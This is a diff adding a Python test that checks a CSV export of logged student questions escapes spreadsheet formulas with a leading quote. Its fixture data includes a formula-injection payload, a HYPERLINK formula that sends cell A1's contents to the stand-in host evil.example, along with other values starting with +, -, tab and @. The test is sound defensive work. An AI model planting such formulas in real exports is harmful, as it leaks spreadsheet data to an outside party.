@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from datetime import UTC, datetime
 
@@ -34,3 +36,20 @@ def test_each_question_reads_as_the_log_shows_it_and_the_totals_add_up():
 def test_an_empty_log_is_an_empty_table_with_its_columns():
     log = question_table([])
     assert log.table.empty and len(log.table.columns) == 9 and (log.questions, log.not_found, log.tokens) == (0, 0, 0)
+
+
+def test_the_downloaded_log_never_hands_a_spreadsheet_a_formula():
+    # A student's question is anyone's text; opened in Excel or LibreOffice, "=…" would run.
+    log = question_table([
+        _logged('=HYPERLINK("http://evil.example/?"&A1,"Click")', found=True, student="@ana", tokens=5),
+        _logged("+1 or -1?", found=False),
+        _logged("-2+3", found=None),
+        _logged("\tcmd", found=None),
+        _logged("How do I rebase?", found=True),
+    ])
+    rows = list(csv.reader(io.StringIO(log.csv.decode())))
+    assert rows[0] == list(log.table.columns)
+    questions = [row[2] for row in rows[1:]]
+    assert questions == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+1 or -1?", "'-2+3", "'\tcmd",
+                         "How do I rebase?"]
+    assert rows[1][1] == "'@ana" and rows[1][7] == "5"  # numbers stay numbers
